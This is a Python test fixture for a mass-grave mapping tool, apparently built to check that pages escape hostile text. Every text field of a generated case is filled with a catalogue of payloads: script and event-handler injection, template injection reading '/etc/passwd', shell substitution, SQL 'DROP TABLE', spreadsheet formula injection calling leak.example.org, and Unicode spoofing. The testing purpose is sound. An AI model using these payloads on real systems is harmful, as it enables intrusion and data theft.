"""What an enemy writes into the cells of a case, and a case whose every text is one of them.

``SHOWN`` are texts that a cell may hold and a page shows as they are; ``REFUSED`` are those that no
cell may hold.  ``hostile_case`` writes each of ``SHOWN`` into every field of text of every table, and
into the title and the summary of the case, its credit and the names of its OpenStreetMap objects.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path

from builders import SAMPLE, SMALLEST, csv_text
from gravemap.records import TABLES
from gravemap.records.cells import cell_type

RUN = "window.__executed=1"
#: A made-up server: a page that asks it for anything is seen to.
AWAY = "https://leak.example.org/x"

SHOWN: Mapping[str, str] = {
    # Markup, in every context in which a text could stand
    "script": f"<script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of script, spaced": f"</SCRIPT\t ><script src={AWAY}.js></script>",
    "json and script": f'"}}]}}</script><script>{RUN}//',
    "comment and script": f"<!--<script>{RUN}",
    "end of comment": f"--><script>{RUN}</script>",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "end of title": f"</title></style></textarea></noscript><img src=x onerror={RUN}>",
    "end of head": f'</head><body onload="{RUN}">',
    "image": f'<img src="{AWAY}.png" onerror="{RUN}">',
    "image set": f'<img srcset="{AWAY}.png 1x"><picture><source srcset="{AWAY}"></picture>',
    "svg": f"<svg/onload={RUN}>",
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg use": f'<svg><use href="{AWAY}#x"/></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "template": f"<template><script>{RUN}</script></template>",
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame with document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    "form": f'<form action="{AWAY}"><button formaction="javascript:{RUN}">x</button></form>',
    "base": f'<base href="{AWAY}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">",
    "link": f'<link rel="stylesheet" href="{AWAY}.css"><link rel="prefetch" href="{AWAY}">',
    "audio and video": f'<video poster="{AWAY}" src="{AWAY}"></video><audio src="{AWAY}" autoplay></audio>',
    "attribute, double": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "attribute, single": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "attribute, none": f"x onmouseover={RUN} style=position:fixed",
    "backtick attribute": f"`onmouseover={RUN}`",
    "details": f"<details open ontoggle={RUN}>",
    "popover": f'<button popovertarget=x>y</button><div popover id=x onbeforetoggle="{RUN}">',
    "clobbering": "<a id=gravemap></a><form id=gravemap-data name=gravemap><input name=textContent></form>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;&amp;&colon;",
    "half an entity": "&#x3c;script&#x3e &notin &lt",
    # Templates and strings of code
    "template string": f"${{{RUN}}}`${{`{RUN}`}}",
    "jinja": f"{{{{ {RUN} }}}}{{{{ ''.__class__.__mro__ }}}}",
    "jinja statement": "{% for x in range(9**9) %}{{ x }}{% endfor %}",
    "jinja raw": "{% raw %}{{ 7*7 }}",
    "jinja comment": "{# #}{%- include '/etc/passwd' -%}",
    "angular": f"{{{{constructor.constructor('{RUN}')()}}}}",
    "string end, double": f'";{RUN};//\\',
    "string end, single": f"';{RUN};//\\",
    "backslashes": "\\u003cscript\\u003e\\x3c\\074 \\\\\\",
    "line separators": f"a\u2028{RUN}\u2029b",
    "format": "%s%n%x {0} {0.__class__} %(x)s $1 $& $` \\1",
    "prototype": '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {}}}',
    "prototype word": "__proto__",
    "constructor word": "constructor",
    "to string": "toString",
    "regular expression": "(((((a+)+)+)+)+)$ [ *** (?",
    "shell": "$(touch executed) `touch executed`; touch executed | touch executed",
    "sql": "'; DROP TABLE graves; --",
    # Addresses
    "javascript address": f"javascript:{RUN}",
    "javascript address, split": f"java\tscript:{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "vbscript address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "protocol-less address": "//leak.example.org/x",
    "windows share": "\\\\leak.example.org\\share",
    "address": AWAY,
    # Styles
    "style": f'<style>@import "{AWAY}.css"; * {{ display: none }}</style>',
    "style value": f"red; background: url({AWAY}); position: fixed; inset: 0; z-index: 9999",
    "style expression": f"expression({RUN}) -moz-binding: url({AWAY}) }} * {{ color: red",
    "style attribute": f'" style="background:url({AWAY});position:fixed;inset:0',
    # Direction, shapes of letters, room
    "override": "\u202egnp.exe\u202c",
    "override, not ended": "\u202eabc \u202ddef",
    "isolates, not ended": "\u2067abc \u2066def \u2068ghi",
    "embeddings": "\u202b\u202a\u202bdeep" * 30,
    "marks": "\u200fabc\u200edef\u061c1",
    "homoglyphs": "Ѕаmрlеtοn раураl.соm",
    "bare combining marks": "\u0301\u0302\u0303abc",
    "stacked marks": "Z" + "\u0301\u0323\u0489" * 300,
    "nothing to see": "a\u200b\u200c\u200d\u2060\u00ad\u034f\u115f\u3164b",
    "variation": "a\ufe00\ufe0f\U000e0100b\U000e0041\U000e007f",
    "wide blanks": "a\u3000\u2003\u00a0\u2009b",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈" * 40,
    "noncharacters": "a\ufffeb\uffffc\U0001fffed",
    "private use": "a\ue000\U000f0000\U0010fffdb",
    "one long word": "W" * 5_000,
    "long words of Arabic": "ﷺﷺ" * 1_000 + "ـ" * 2_000,
    "many lines": "line\n" * 500 + "end",
    "many paragraphs": "a" + "\n" * 300 + "b",
    "arabic and latin": "مقبرة (Quarry) 12–15 نص [x] <b> 3.5%",
    # Cells that spreadsheets run
    "formula": '=HYPERLINK("https://leak.example.org/x","open")',
    "formula, plus": "+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, tabbed": '"\t=1+1',
    "formula, web": '=WEBSERVICE("https://leak.example.org/x")',
    "quotation marks": "\"quotes\" 'single' `back` «french» \"\"",
    "delimiters": "a,b|c:d,\"e\",'f'",
}  # fmt: skip

REFUSED: Mapping[str, str] = {
    "zero": "a\0b",
    "bell": "a\x07b",
    "escape of a terminal": "\x1b]0;title\x07\x1b[31mred",
    "backspace": "admin\x08\x08\x08",
    "delete": "a\x7fb",
    "c1 control": "a\x9bb",
    "lost letter": "a\ufffdb",
    "spreadsheet's error": "#REF!",
}


def text_columns(table: str) -> list[str]:
    """The columns of a table that take any text."""
    model = TABLES[table]
    return [
        column
        for column, field in model.columns().items()
        if cell_type(model.model_fields[field]) is None and column != "file"
    ]


def list_columns(table: str) -> list[str]:
    """The columns of a table that take several texts."""
    model = TABLES[table]
    typed = {column: cell_type(model.model_fields[field]) for column, field in model.columns().items()}
    return [column for column, read in typed.items() if read is not None and read.name == "texts"]


#: A row of each table that is drawn: with a date, a place, and the ids of its own copy of the case.
FULL: Mapping[str, Mapping[str, str]] = {
    "sources": {"url": "https://example.org/{n}", "published": "2031-06-05", "accessed": "2033-01-01"},
    "actors": {"colour": "#0072B2"},
    "allegiances": {"actor_id": "actor-{n}", "ally_id": "ally-{n}", "from": "2029"},
    "places": {"longitude": "{x}", "latitude": "{y}", "uncertainty_m": "400"},
    "coordinates": {"place_id": "place-{n}", "longitude": "{x}", "latitude": "{y}", "uncertainty_m": "900"},
    "graves": {"place_id": "place-{n}", "discovered": "2031-06"},
    "grave_events": {"grave_id": "grave-{n}", "date": "2031-10-20", "state": "exhumed"},
    "scopes": {"covers": "graves/grave-{n}"},
    "counts": {"scope_id": "scope-{n}", "grave_ids": "grave-{n}", "quantity": "{n}", "date": "2031-10-28"},
    "control": {"place_id": "place-{n}", "actor_id": "actor-{n}", "date": "2031-06-05"},
    "incidents": {"place_id": "place-{n}", "date": "2030-09-13", "killed": "{n}", "perpetrator_id": "actor-{n}"},
    "milestones": {"place_id": "place-{n}", "date": "2032-01-15", "actor_ids": "actor-{n}"},
    "coverage": {"place_id": "place-{n}", "from": "2028", "until": "2031-06-04"},
    "publication": {
        "subject": "graves/grave-{n}", "public_domain_source_id": "source-{n}", "decided": "2033-02-01",
        "review_by": "2034-02-01",
    },
}  # fmt: skip
_IDS = {
    "sources": "source", "actors": "actor", "places": "place", "graves": "grave", "scopes": "scope",
}  # fmt: skip


#: A decision on the whole case: every place may be shown to a hundredth of a degree.
DECIDED: Mapping[str, str] = {
    **SMALLEST["publication"], "id": "case", "decided": "2033-02-01", "review_by": "2034-02-01",
}  # fmt: skip


def rows(texts: Mapping[str, str]) -> dict[str, list[dict[str, str]]]:
    """For each text one row of every table, all its fields of text that text."""
    made: dict[str, list[dict[str, str]]] = {table: [] for table in TABLES}
    for number, text in enumerate(texts.values(), start=1):
        for table in TABLES:
            made[table].append(_row(table, _IDS.get(table, table.replace("_", "-")), number, text))
        made["actors"].append(_row("actors", "ally", number, text))
    made["publication"].append({**DECIDED, "public_domain_source_id": "source-1"})
    return made


def _row(table: str, name: str, number: int, text: str) -> dict[str, str]:
    place = {"n": number, "x": f"{9.103 + number % 12 * 0.15:.3f}", "y": f"{44.104 + number // 12 * 0.2:.3f}"}
    full = {column: cell.format(**place) for column, cell in FULL[table].items()}
    texts = dict.fromkeys(text_columns(table), text)
    lists = dict.fromkeys(list_columns(table), text.replace(";", ",").replace("؛", "،"))
    sources = {} if table == "sources" else {"source_ids": f"source-{number}"}
    row = {**SMALLEST[table], **texts, **lists, **full, **sources, "id": f"{name}-{number}"}
    return {column: row[column] for column in TABLES[table].columns() if column in row}


def hostile_case(folder: Path, texts: Mapping[str, str], title: str = "Case") -> Path:
    """A case in ``folder`` with every one of ``texts`` in every field of text of every table."""
    shutil.copytree(SAMPLE / "osm", folder / "osm")
    for name in ("places", "boundaries", "roads", "water", "built_up"):
        _rename(folder / "osm" / f"{name}.geojson", texts)
    shutil.rmtree(folder / "osm" / "lock.toml", ignore_errors=True)
    (folder / "records").mkdir()
    for table, made in rows(texts).items():
        (folder / "records" / f"{table}.csv").write_text(csv_text(made), encoding="utf-8", newline="")
    told = json.dumps(title, ensure_ascii=False).replace("\x7f", "\\u007f")
    keys = (
        "title_en",
        "title_ar",
        "summary_en",
        "summary_ar",
        "credit",
        "licence",
        "report_to_en",
        "report_to_ar",
    )
    (folder / "case.toml").write_text(
        "\n".join(
            (
                'id = "hostile-texts"',
                *(f"{key} = {told}" for key in keys),
                'from = "2028"',
                'until = "2032-12-31"',
                "bbox = [9.0, 44.0, 11.0, 46.0]",
                'languages = ["en", "ar"]',
                'headline_scope = "scope-1"',
                'headline_place = "place-1"',
                "",
            )
        ),
        encoding="utf-8",
    )
    return folder


def _rename(path: Path, texts: Mapping[str, str]) -> None:
    """Give every named object of a GeoJSON file one text after the other, in all its names."""
    if not path.exists():
        return
    collection = json.loads(path.read_text(encoding="utf-8"))
    left: Iterator[str] = iter(())
    for feature in collection["features"]:
        for key, value in feature["properties"].items():
            if key.startswith("name") and isinstance(value, str):
                text = next(left, None)
                if text is None:
                    left = iter(texts.values())
                    text = next(left)
                feature["properties"][key] = text
    path.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")
